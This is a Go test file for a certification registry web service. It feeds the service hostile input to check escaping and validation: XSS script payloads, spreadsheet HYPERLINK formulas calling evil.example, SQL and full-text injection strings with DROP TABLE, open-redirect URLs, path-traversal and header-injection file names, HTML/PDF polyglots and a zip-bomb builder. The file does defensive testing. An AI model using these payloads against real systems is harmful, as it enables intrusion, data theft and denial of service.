package web

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"nintei"
	"nintei/application"
	"nintei/catalog"
	"nintei/formb"
	"nintei/internal/testenv"
	"nintei/service"
)

// Hostile input (issue 8, item 6): what a provider types is published exactly as written
// so every public surface must show it as text, whatever it contains.

// certifyWith certifies a ready application of a new provider after editForm has changed
// its Form A and every entry of its Form B, and returns the certificate number.
func certifyWith(t testing.TB, s *site, ownerEmail, org, staffEmail string,
	editA func(*application.FormA), editB func(catalog.Item, *formb.Entry)) string {
	t.Helper()
	ctx := context.Background()
	owner := service.Principal{User: s.Env.AddUser(t, ownerEmail, nintei.RoleOwner, org)}
	jimu := service.Principal{User: s.Env.AddUser(t, staffEmail, nintei.RoleSecretariat, "")}
	id, v := s.Env.ReadyApplication(t, owner)
	a, err := s.Env.Store.Application(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	fa := testenv.CompleteFormA()
	editA(&fa)
	if v, err = s.Env.Svc.SaveFormA(ctx, owner, id, a.Version, fa); err != nil {
		t.Fatalf("SaveFormA: %v", err)
	}
	ed, err := s.Env.Svc.ApplicationEdition(ctx, a)
	if err != nil {
		t.Fatal(err)
	}
	form, err := s.Env.Svc.FormB(ctx, owner, a)
	if err != nil {
		t.Fatal(err)
	}
	var entries []formb.Entry
	for _, it := range ed.Items {
		e := form[it.ID]
		e.ItemID = it.ID
		editB(it, &e)
		entries = append(entries, e)
	}
	if _, err = s.Env.Svc.SaveFormB(ctx, owner, id, v, entries); err != nil {
		t.Fatalf("SaveFormB: %v", err)
	}
	steps := []func(v int64) error{
		func(v int64) error { return s.Env.Svc.Submit(ctx, owner, id, v, "ja") },
		func(v int64) error { return s.Env.Svc.StartFormalReview(ctx, jimu, id, v) },
		func(v int64) error { _, err := s.Env.Svc.AcceptFormal(ctx, jimu, id, v); return err },
		func(v int64) error { return s.Env.Svc.ConfirmPayment(ctx, jimu, id, v, "2026-11-27", 209000, "") },
		func(int64) error { return testenv.AssessMandatoryOK(ctx, s.Env.Svc, jimu, id) },
		func(v int64) error { return s.Env.Svc.Certify(ctx, jimu, id, v, "") },
	}
	for _, step := range steps {
		a, _ := s.Env.Store.Application(ctx, id)
		if err := step(a.Version); err != nil {
			t.Fatal(err)
		}
	}
	c, err := s.Env.Svc.Certification(ctx, owner, id)
	if err != nil {
		t.Fatal(err)
	}
	return c.Number
}

// editFreeText puts text(field) into every free-text part of Form A and Form B that the
// registry publishes: the provider's and the service's names and overview; text and
// long-text answers, the detail of a yes/no answer, every cell of a list and the hours of
// every contact.
func editFreeText(text func(field string) string) (func(*application.FormA), func(catalog.Item, *formb.Entry)) {
	editA := func(fa *application.FormA) {
		fa.Provider.Name = text("provider")
		fa.Service.Name = text("service")
		fa.Service.Overview = text("overview") + "\n" + text("overview2")
	}
	editB := func(it catalog.Item, e *formb.Entry) {
		switch it.Answer.Type {
		case catalog.TypeText, catalog.TypeLongText:
			e.Answer.Value = text(it.ID)
		case catalog.TypeYesNoDetail:
			if e.Answer.Yes != nil && *e.Answer.Yes {
				e.Answer.Detail = text(it.ID)
			}
		case catalog.TypeList:
			for _, row := range e.Answer.Rows {
				for k := range row {
					row[k] = text(it.ID + "." + k)
				}
			}
		case catalog.TypeContacts:
			for k := range e.Answer.Contacts {
				e.Answer.Contacts[k].Hours = text(fmt.Sprintf("%s.%d", it.ID, k))
			}
		}
	}
	return editA, editB
}

// xss is a payload that runs script if a page inserts it as markup; data-f names the field
// it came from, so a failure says which one leaked.
func xss(field string) string {
	return `<script>alert("` + field + `")</script><img src=x onerror=alert(1) data-f="` + field + `">"'&`
}

// TestHostileTextIsEscapedOnPublicSurfaces_R7_2: script payloads in every published free
// text (names, overview, every free-text answer, list cells, contact hours) are shown as
// text on every public surface — registry list and search, service page, comparison,
// verification, Atom feed, JSON, CSV — and never become markup.
func TestHostileTextIsEscapedOnPublicSurfaces_R7_2(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		s := newTestSite(t, b)
		editA, editB := editFreeText(xss)
		number := certifyWith(t, s, "evil@a.example.jp", "株式会社エビル", "jimu@body.example.jp", editA, editB)
		esc := url.PathEscape(number)
		c := s.client()
		html := map[string]string{"list": "/registry", "search": "/registry?q=" + url.QueryEscape(`<script>alert("service")`),
			"entry": "/registry/" + esc, "verify": "/verify/" + esc, "compare": compareURL([]string{number})}
		for name, path := range html {
			r := c.get(t, path)
			if r.Status != http.StatusOK {
				t.Errorf("%s %s = %d", name, path, r.Status)
				continue
			}
			doc := r.doc(t)
			if n := doc.Find("[data-f], [onerror]").Length(); n > 0 {
				f, _ := doc.Find("[data-f], [onerror]").First().Attr("data-f")
				t.Errorf("%s: %d injected elements, the first from %q", name, n, f)
			}
			doc.Find("script").Each(func(_ int, sc *goquery.Selection) {
				if strings.Contains(sc.Text(), "alert") {
					t.Errorf("%s: an injected script element", name)
				}
			})
			if !strings.Contains(doc.Find("main").Text(), xss("service")) {
				t.Errorf("%s does not show the service name as text", name)
			}
		}
		entry := c.getPage(t, "/registry/"+esc, http.StatusOK).Find("main").Text()
		for _, field := range []string{"provider", "overview", "overview2", "IPIOT-005"} {
			if !strings.Contains(entry, xss(field)) {
				t.Errorf("the service page does not show %s as text", field)
			}
		}

		feed := c.get(t, "/registry/feed.atom")
		var atom struct {
			Entries []struct {
				Title string `xml:"title"`
			} `xml:"entry"`
		}
		if err := xml.Unmarshal([]byte(feed.Body), &atom); err != nil || len(atom.Entries) == 0 {
			t.Fatalf("feed is not well-formed Atom: %v\n%.300s", err, feed.Body)
		}
		if !strings.Contains(atom.Entries[0].Title, xss("service")) || strings.Contains(feed.Body, "<script") {
			t.Errorf("feed title %q: the name not as text", atom.Entries[0].Title)
		}

		for _, path := range []string{"/api/v1/registry", "/api/v1/registry/" + esc, "/verify/" + esc} {
			r := c.get(t, path, "Accept", "application/json")
			if !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") || strings.Contains(r.Body, "<script") ||
				!strings.Contains(r.Body, `\u003cscript\u003ealert(\"service\")`) {
				t.Errorf("%s: %s, markup not escaped in JSON:\n%.300s", path, r.Header.Get("Content-Type"), r.Body)
			}
		}
		for _, path := range []string{"/registry.csv", "/compare.csv?n=" + url.QueryEscape(number)} {
			r := c.get(t, path)
			if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") || r.Header.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") {
				t.Errorf("%s may be rendered by a browser: %v", path, r.Header)
			}
		}
	})
}

// formulas are cell texts a spreadsheet would run as formulas.
var formulas = []string{"=", "+", "-", "@", "\t", "\r"}

// TestHostileCSVFormulasNeutralised: whatever names and answers start with — = + - @ tab
// or carriage return — no cell of any CSV export (the registry list, the comparison)
// starts with one of them: it gets a leading apostrophe and is text to a spreadsheet.
func TestHostileCSVFormulasNeutralised(t *testing.T) {
	s := newTestSite(t, sqliteOnly(t))
	var numbers []string
	for k, f := range formulas {
		payload := func(field string) string { return f + `HYPERLINK("http://evil.example/?` + field + `","x")` }
		editA, editB := editFreeText(payload)
		numbers = append(numbers, certifyWith(t, s, fmt.Sprintf("f%d@a.example.jp", k), fmt.Sprintf("株式会社式%d", k),
			fmt.Sprintf("jimu%d@body.example.jp", k), editA, editB))
	}
	c := s.client()
	for _, path := range []string{"/registry.csv", "/registry.csv?q=" + url.QueryEscape("hyperlink"), strings.Replace(compareURL(numbers), "/compare?", "/compare.csv?", 1)} {
		r := c.get(t, path)
		if r.Status != http.StatusOK {
			t.Fatalf("GET %s = %d", path, r.Status)
		}
		cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff")))
		cr.FieldsPerRecord = -1
		cells, rows := 0, 0
		for {
			rec, err := cr.Read()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			rows++
			for _, cell := range rec {
				if strings.Contains(cell, "HYPERLINK") {
					cells++
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s row %d: cell %q starts a formula", path, rows, cell)
				}
			}
		}
		if cells < len(formulas) {
			t.Errorf("%s: %d cells with the payload, want at least %d (one per service)", path, cells, len(formulas))
		}
	}
}

// TestHostileSearchAndFilterMetacharacters: SQL, LIKE, FTS5 and tsquery syntax in the
// search words and in every filter reaches the database only as data: 200, the right
// number of services (a wildcard matches only itself), and the registry still whole.
func TestHostileSearchAndFilterMetacharacters(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		s := newTestSite(t, b)
		certifiedService(t, s)
		c := s.client()
		total := func(query string) int {
			t.Helper()
			var got struct {
				Total int `json:"total"`
			}
			r := c.get(t, "/api/v1/registry?"+query)
			if r.Status != http.StatusOK {
				t.Fatalf("GET /api/v1/registry?%s = %d %.300s", query, r.Status, r.Body)
			}
			r.json(t, &got)
			for _, page := range []string{"/registry?" + query, "/registry.csv?" + query} {
				if r := c.get(t, page); r.Status != http.StatusOK {
					t.Errorf("GET %s = %d", page, r.Status)
				}
			}
			return got.Total
		}
		// "%" alone is left out: a published percentage ends in it (99.9%),
		// so it finds that service as text; "%%" and "_%_", which a LIKE
		// pattern would let match everything, must find nothing.
		words := []string{"'", `"`, `\`, "_", "%%", "_%_", "*", "' OR '1'='1", `" OR ""="`, "1;DROP TABLE registry_entries;--",
			"')OR(1=1)--", `\'`, "NEAR(み,な)", "み*", "^み", "みなと\"OR\"x", "-みなと", "{number}:IP", "a:*", "!a", "a&b", "a|b",
			"a<->b", "())", "$1", "?", "ﾐﾅﾄ'--", strings.Repeat("'", 500), strings.Repeat("あ", 300)}
		for _, w := range words {
			if n := total("q=" + url.QueryEscape(w)); n != 0 {
				t.Errorf("q=%q finds %d services, want 0", w, n)
			}
		}
		for _, w := range []string{"みなと", "ＩｏＴ", "みなとiot", "iot 株式会社"} {
			if n := total("q=" + url.QueryEscape(w)); n != 1 {
				t.Errorf("q=%q finds %d services, want 1", w, n)
			}
		}
		for _, param := range []string{"base", "status", "sort", "a.IPIOT-053", "page", "per_page"} {
			for _, v := range []string{"' OR '1'='1", "%", "1; DROP TABLE registry_entries", "-1", "99999999999999999999", "9223372036854775807"} {
				want := 0
				if param == "sort" || param == "page" || param == "per_page" || param == "status" {
					want = 1 // ignored: sort and status from fixed lists, page numbers within bounds
				}
				if n := total(param + "=" + url.QueryEscape(v)); n != want {
					t.Errorf("%s=%q: %d services, want %d", param, v, n, want)
				}
			}
		}
		for _, id := range []string{"' OR 1=1 --", "%", "IPIOT-053' OR 'a'='a"} {
			if n := total(url.QueryEscape("a."+id) + "=" + url.QueryEscape("国内")); n != 0 {
				t.Errorf("filter on the unknown item %q: %d services, want 0", id, n)
			}
		}
		if n := total(""); n != 1 {
			t.Errorf("after the hostile queries the registry lists %d services, want 1", n)
		}
	})
}

// TestHostileNULAndInvalidUTF8AreRefused: a NUL character or invalid UTF-8 — which
// PostgreSQL cannot hold in text, so they ended as a 500 there — in a query, a path, a
// form or a JSON body is a malformed request (400 with the Japanese message), and nothing
// of the form is saved. (JSON decoding turns invalid UTF-8 into U+FFFD, so only the NUL
// reaches the API.)
func TestHostileNULAndInvalidUTF8AreRefused(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		s := newTestSite(t, b)
		number := certifiedService(t, s)
		c := s.client()
		for _, path := range []string{"/registry?q=%00", "/api/v1/registry?q=a%00b", "/registry?base=%00", "/api/v1/registry?a.IPIOT-053=%00",
			"/registry.csv?q=%00", "/verify/" + url.PathEscape(number) + "%00", "/registry/%00", "/api/v1/registry/%00", "/compare?n=%00",
			"/registry?base=%FF", "/api/v1/registry?a.IPIOT-053=%C3", "/verify/%FF%FE", "/api/v1/registry/IP-IoT%200001-26%E3%81", "/compare?n=%80"} {
			r := c.get(t, path)
			if r.Status != http.StatusBadRequest {
				t.Errorf("GET %s = %d, want 400", path, r.Status)
			} else if ct := r.Header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") && alertText(r.doc(t)) != s.ja("error.form.malformed", nil) {
				t.Errorf("GET %s: alert %q", path, alertText(r.doc(t)))
			}
		}

		owner := s.Env.AddUser(t, "nul@example.jp", nintei.RoleOwner, orgA)
		ctx := context.Background()
		app, err := s.Env.Svc.OpenApplication(ctx, service.Principal{User: owner}, "")
		if err != nil {
			t.Fatal(err)
		}
		ui := s.client()
		login(t, ui, "nul@example.jp", testenv.TestPassword)
		before := s.auditCount(t)
		doc := ui.getPage(t, fmt.Sprintf("/applications/%d/form-b", app.ID), http.StatusOK)
		version, _ := doc.Find(`input[name=version]`).Attr("value")
		section, _ := doc.Find(`input[name=section]`).Attr("value")
		for _, bad := range []string{"事業の概要\x00です", "事業の概要\xffです", "\xe4\xba"} {
			r := ui.postForm(t, fmt.Sprintf("/applications/%d/form-b", app.ID), url.Values{"csrf_token": {ui.csrf(t)}, "version": {version},
				"section": {section}, "a.IPIOT-005.value": {bad}, "a.IPIOT-001.value": {"2026-11-01"}})
			if r.Status != http.StatusBadRequest || alertText(r.doc(t)) != s.ja("error.form.malformed", nil) {
				t.Errorf("Form B with %q = %d %q, want 400 and the malformed-form message", bad, r.Status, alertText(r.doc(t)))
			}
		}
		// The CSRF token in the header instead of the form: the form is checked all the same
		// (opening an application reads "scheme" without parsing the form itself).
		r := ui.request(t, http.MethodPost, "/applications", strings.NewReader("scheme=iaas%FF%00"), "Content-Type",
			"application/x-www-form-urlencoded", "Origin", s.URL, "X-CSRF-Token", ui.csrf(t))
		if r.Status != http.StatusBadRequest {
			t.Errorf("POST /applications with a NUL and the token in a header = %d, want 400", r.Status)
		}
		api := s.bearerClient(s.apiToken(t, owner, "ci").Secret)
		afterToken := s.auditCount(t)
		r = api.api(t, http.MethodPut, fmt.Sprintf("/api/v1/applications/%d/form-a", app.ID),
			fmt.Sprintf(`{"version":%d,"form_a":{"provider":{"name":"a\u0000b"}}}`, app.Version))
		if r.Status != http.StatusBadRequest {
			t.Errorf("JSON with \\u0000 = %d, want 400: %.200s", r.Status, r.Body)
		}
		if got := s.auditCount(t); got != afterToken || afterToken != before+1 {
			t.Errorf("audit events %d → %d → %d: something was saved", before, afterToken, got)
		}
		a, _ := s.Env.Store.Application(ctx, app.ID)
		if a.Version != app.Version {
			t.Errorf("application version %d → %d: something was saved", app.Version, a.Version)
		}
	})
}

// TestHostileNextStaysOnSite: the page to return to after logging in or switching the
// language is a path of this site only. Browsers drop tabs and newlines from a URL and
// read "\" as "/", so "/\t/evil.example" (which passed the old check) would leave the
// site; every such variant goes to the dashboard instead (found while answering gosec
// G710).
func TestHostileNextStaysOnSite(t *testing.T) {
	s := newTestSite(t, sqliteOnly(t))
	s.Env.AddUser(t, "owner@example.jp", nintei.RoleOwner, orgA)
	evil := []string{"//evil.example/", "/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example", `/\evil.example`, `/\/evil.example`,
		"/%09/evil.example", "https://evil.example/", "javascript:alert(1)", "/\x7f/evil.example", " /evil.example", "/a\\..\\..\\evil"}
	for _, next := range evil {
		r := s.client().postForm(t, "/lang", url.Values{"lang": {"ja"}, "next": {next}})
		if loc := r.location(); r.Status != http.StatusSeeOther || (loc != "/dashboard" && !strings.HasPrefix(next, "/%09")) {
			t.Errorf("POST /lang next=%q = %d to %q, want 303 to /dashboard", next, r.Status, loc)
		}
		c := s.client()
		r = c.postForm(t, "/login", url.Values{"email": {"owner@example.jp"}, "password": {testenv.TestPassword}, "next": {next}})
		if loc := r.location(); r.Status != http.StatusSeeOther || strings.ContainsAny(loc, "\t\n\r\\") || strings.HasPrefix(loc, "//") ||
			strings.Contains(loc, ":") {
			t.Errorf("login next=%q = %d to %q, want a path of this site", next, r.Status, loc)
		}
	}
	for _, next := range []string{"/registry?q=" + url.QueryEscape("認証"), "/applications/1/form-b?section=x#f"} {
		if r := s.client().postForm(t, "/lang", url.Values{"lang": {"ja"}, "next": {next}}); r.location() != next {
			t.Errorf("POST /lang next=%q goes to %q, want there", next, r.location())
		}
	}
}

// hostileApplication opens an application for a new owner of provider A, logged in on a
// browser, and returns its ID, the browser and its CSRF token.
func hostileApplication(t *testing.T, s *site) (int64, *client, string) {
	t.Helper()
	owner := s.Env.AddUser(t, "owner@example.jp", nintei.RoleOwner, orgA)
	a, err := s.Env.Svc.OpenApplication(context.Background(), service.Principal{User: owner}, "")
	if err != nil {
		t.Fatal(err)
	}
	c := s.client()
	login(t, c, "owner@example.jp", testenv.TestPassword)
	return a.ID, c, c.csrf(t)
}

// TestHostileUploadNames: path traversal, overlong names, control characters and header
// injection in an uploaded file's name are stored as a plain, short file name, and the
// download's Content-Disposition carries nothing else.
func TestHostileUploadNames(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		s := newTestSite(t, b)
		id, c, csrf := hostileApplication(t, s)
		names := []string{"../../../../etc/passwd.pdf", `..\..\Windows\win.ini.pdf`, "/abs/path.pdf", strings.Repeat("長", 400) + ".pdf",
			"a\"\r\nX-Injected: 1\r\n.pdf", "nul\x00byte.pdf", "\u202Efdp.exe.pdf", ".pdf", "CON.pdf", "a;filename=evil.html.pdf"}
		for k, name := range names {
			ct, body := multipartBody(t, url.Values{"csrf_token": {csrf}, "purpose": {"existence"}}, name, tinyPDF)
			r := c.request(t, "POST", fmt.Sprintf("/applications/%d/attachments", id), body, "Content-Type", ct, "Origin", s.URL)
			if r.Status >= 500 {
				t.Fatalf("upload %q = %d", name, r.Status)
			}
			if r.Status != http.StatusSeeOther {
				t.Logf("upload %q refused: %d", name, r.Status)
				continue // refused with a message is fine too
			}
			atts, err := s.Env.Store.Attachments(context.Background(), id)
			if err != nil || len(atts) == 0 {
				t.Fatalf("upload %q: %d attachments, %v", name, len(atts), err)
			}
			got := atts[len(atts)-1]
			t.Logf("upload %q stored as %q", name, got.FileName)
			if strings.ContainsAny(got.FileName, "/\\\x00\r\n") || strings.Contains(got.FileName, "..") || len(got.FileName) > 255 {
				t.Errorf("upload %q stored as %q", name, got.FileName)
			}
			d := c.get(t, fmt.Sprintf("/applications/%d/attachments/%d", id, got.ID))
			cd := d.Header.Get("Content-Disposition")
			if d.Status != http.StatusOK || d.Header.Get("X-Injected") != "" || !strings.HasPrefix(cd, "attachment") ||
				strings.ContainsAny(cd, "\r\n/\\") || d.Header.Get("Content-Type") != "application/pdf" {
				t.Errorf("download %d of %q: %d %q %v", k, name, d.Status, cd, d.Header)
			}
		}
		// A NUL in a field before the file: refused before anything is stored (it was a
		// 500 on PostgreSQL).
		n, _ := s.Env.Store.Attachments(context.Background(), id)
		ct, body := multipartBody(t, url.Values{"csrf_token": {csrf}, "purpose": {"existence"}, "source_url": {"https://x.example/\x00"}}, "a.pdf", tinyPDF)
		r := c.request(t, "POST", fmt.Sprintf("/applications/%d/attachments", id), body, "Content-Type", ct, "Origin", s.URL)
		if r.Status != http.StatusBadRequest || !containsJapanese(r.doc(t).Find("#upload-error").Text()) {
			t.Errorf("upload with a NUL in source_url = %d %q, want 400 with a message", r.Status, r.doc(t).Find("#upload-error").Text())
		}
		if after, _ := s.Env.Store.Attachments(context.Background(), id); len(after) != len(n) {
			t.Errorf("the upload with a NUL was stored")
		}
		page := c.getPage(t, fmt.Sprintf("/applications/%d/attachments", id), http.StatusOK)
		if page.Find("[data-f], script:contains('alert')").Length() > 0 {
			t.Error("the attachments page renders a name as markup")
		}
	})
}

// TestHostileMislabelledUploads: the content decides, not the name or the declared type.
// HTML, SVG or script named .pdf/.png/.jpg is refused with a Japanese message and nothing is
// stored; a PDF whose body is HTML is kept but only ever served as a PDF download that a
// browser will not sniff; a workbook that is not a zip, or is a zip bomb, is refused by the
// import with its problem listed and Form B unchanged.
func TestHostileMislabelledUploads(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		s := newTestSite(t, b)
		id, c, csrf := hostileApplication(t, s)
		ctx := context.Background()
		refused := map[string]string{
			"html.pdf":     "<!DOCTYPE html><html><script>alert(1)</script></html>",
			"図.png":        "<html><body onload=alert(1)>",
			"photo.jpg":    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
			"script.pdf":   "alert(document.cookie)",
			"gif.png":      "GIF89a<script>alert(1)</script>",
			"empty.pdf":    "",
			"book.xlsx":    "PK\x03\x04 not really a zip",
			"規程.docx":      "%PDF-1.4\n%%EOF\n",
			"evil.pdf.exe": tinyPDF,
		}
		for name, content := range refused {
			ct, body := multipartBody(t, url.Values{"csrf_token": {csrf}, "purpose": {"existence"}}, name, content)
			r := c.request(t, "POST", fmt.Sprintf("/applications/%d/attachments", id), body, "Content-Type", ct, "Origin", s.URL)
			if r.Status < 400 || r.Status >= 500 {
				t.Errorf("upload %q = %d, want a 4xx refusal", name, r.Status)
				continue
			}
			if msg := r.doc(t).Find("#file-error, .field-error, [role=alert]").First().Text(); !containsJapanese(msg) {
				t.Errorf("upload %q: no Japanese message (%q)", name, msg)
			}
		}
		if atts, _ := s.Env.Store.Attachments(ctx, id); len(atts) != 0 {
			t.Errorf("%d refused files were stored", len(atts))
		}

		polyglot := "%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n"
		ct, body := multipartBody(t, url.Values{"csrf_token": {csrf}, "purpose": {"existence"}}, "polyglot.pdf", polyglot)
		r := c.request(t, "POST", fmt.Sprintf("/applications/%d/attachments", id), body, "Content-Type", ct, "Origin", s.URL)
		t.Logf("PDF with an HTML body: %d", r.Status)
		if r.Status == http.StatusSeeOther {
			atts, _ := s.Env.Store.Attachments(ctx, id)
			d := c.get(t, fmt.Sprintf("/applications/%d/attachments/%d", id, atts[0].ID))
			if d.Header.Get("Content-Type") != "application/pdf" || d.Header.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.HasPrefix(d.Header.Get("Content-Disposition"), "attachment") || !strings.Contains(d.Header.Get("Content-Security-Policy"), "default-src") {
				t.Errorf("a PDF with an HTML body is served as %v", d.Header)
			}
		} else if r.Status >= 500 {
			t.Errorf("polyglot upload = %d", r.Status)
		}

		a, _ := s.Env.Store.Application(ctx, id)
		for name, content := range map[string][]byte{"not a zip": []byte("<html>not a workbook</html>"), "truncated zip": []byte("PK\x03\x04\x14\x00"),
			"zip bomb": zipBomb(t, 4<<20)} {
			ct, body := multipartBody(t, url.Values{"csrf_token": {csrf}, "version": {fmt.Sprint(a.Version)}}, "申請書B.xlsx", string(content))
			r := c.request(t, "POST", fmt.Sprintf("/applications/%d/form-b/import", id), body, "Content-Type", ct, "Origin", s.URL)
			if r.Status != http.StatusUnprocessableEntity && r.Status != http.StatusRequestEntityTooLarge {
				t.Errorf("import of a %s = %d, want 422", name, r.Status)
				continue
			}
			if text := r.doc(t).Find("main").Text(); !containsJapanese(text) {
				t.Errorf("import of a %s: no Japanese problem shown", name)
			}
		}
		if after, _ := s.Env.Store.Application(ctx, id); after.Version != a.Version {
			t.Errorf("refused imports changed the application: version %d → %d", a.Version, after.Version)
		}
	})
}

// zipBomb is a zip whose one worksheet unpacks to size bytes of zeros, a thousand times
// its packed size.
func zipBomb(t *testing.T, size int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range []string{"[Content_Types].xml", "xl/workbook.xml"} {
		w, _ := zw.Create(name)
		_, _ = w.Write([]byte(`<?xml version="1.0"?><x/>`))
	}
	w, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(make([]byte, size)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func containsJapanese(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool { return r >= 0x3040 && r <= 0x9FFF })
}

// TestHostileLargeForms: a Form B post bigger than the body limit, or with a huge value,
// gets 413 and the Japanese message; one with tens of thousands of fields within the limit
// is answered without a server error. Neither saves anything half-way.
func TestHostileLargeForms(t *testing.T) {
	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
		s := newTestSite(t, b)
		id, c, csrf := hostileApplication(t, s)
		ctx := context.Background()
		before, _ := s.Env.Store.Application(ctx, id)
		audit := s.auditCount(t)
		path := fmt.Sprintf("/applications/%d/form-b", id)
		doc := c.getPage(t, path, http.StatusOK)
		section, _ := doc.Find(`input[name=section]`).Attr("value")
		base := url.Values{"csrf_token": {csrf}, "version": {fmt.Sprint(before.Version)}, "section": {section},
			"a.IPIOT-001.value": {"2026-11-01"}}

		huge := url.Values{}
		for k, v := range base {
			huge[k] = v
		}
		huge.Set("a.IPIOT-005.value", strings.Repeat("長い回答", 1<<20/12+1)) // > 1 MiB
		r := c.postForm(t, path, huge)
		if r.Status != http.StatusRequestEntityTooLarge {
			t.Errorf("a 1 MiB value = %d, want 413", r.Status)
		} else if got := alertText(r.doc(t)); !strings.Contains(got, s.ja("error.too_large", map[string]any{"Max": 1 << 20})) {
			t.Errorf("a 1 MiB value: alert %q", got)
		}

		many := url.Values{}
		for k, v := range base {
			many[k] = v
		}
		for k := range 40000 {
			many.Add(fmt.Sprintf("a.IPIOT-%03d.x%d", k%70, k), "1")
		}
		r = c.postForm(t, path, many)
		t.Logf("40,000 fields: %d", r.Status)
		if r.Status >= 500 {
			t.Errorf("40,000 fields = %d", r.Status)
		} else if r.Status == http.StatusBadRequest && alertText(r.doc(t)) != s.ja("error.form.malformed", nil) {
			t.Errorf("40,000 fields: alert %q", alertText(r.doc(t)))
		}
		rows := url.Values{}
		for k, v := range base {
			rows[k] = v
		}
		for k := range 5000 {
			rows.Add(fmt.Sprintf("a.IPIOT-015.rows.%d.name", k), "x")
		}
		r = c.postForm(t, path, rows)
		t.Logf("5,000 list rows: %d", r.Status)
		if r.Status >= 500 {
			t.Errorf("5,000 list rows = %d", r.Status)
		}
		after, _ := s.Env.Store.Application(ctx, id)
		if r.Status != http.StatusSeeOther && after.Version != before.Version {
			t.Errorf("a refused form changed the application: version %d → %d", before.Version, after.Version)
		}
		if after.Version == before.Version && s.auditCount(t) != audit {
			t.Errorf("audit events without a saved change")
		}
	})
}
